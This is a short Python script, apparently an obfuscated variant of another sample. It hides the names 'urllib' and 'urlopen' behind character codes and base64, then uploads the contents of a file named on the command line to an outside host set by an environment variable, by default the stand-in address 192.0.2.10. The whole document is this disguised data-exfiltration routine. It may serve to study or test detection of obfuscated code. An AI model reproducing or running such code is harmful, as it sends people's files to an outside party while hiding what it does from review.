"""The same, with every name put together at run time."""

import base64
import os
import sys

where = os.environ.get("CLOUD", "192.0.2.10")
library = __import__("".join(map(chr, [117, 114, 108, 108, 105, 98])) + ".request", fromlist=["x"])
opener = getattr(library, base64.b64decode("dXJsb3Blbg==").decode())
opener("http://" + where + "/u", data=open(sys.argv[1], "rb").read(), timeout=3)
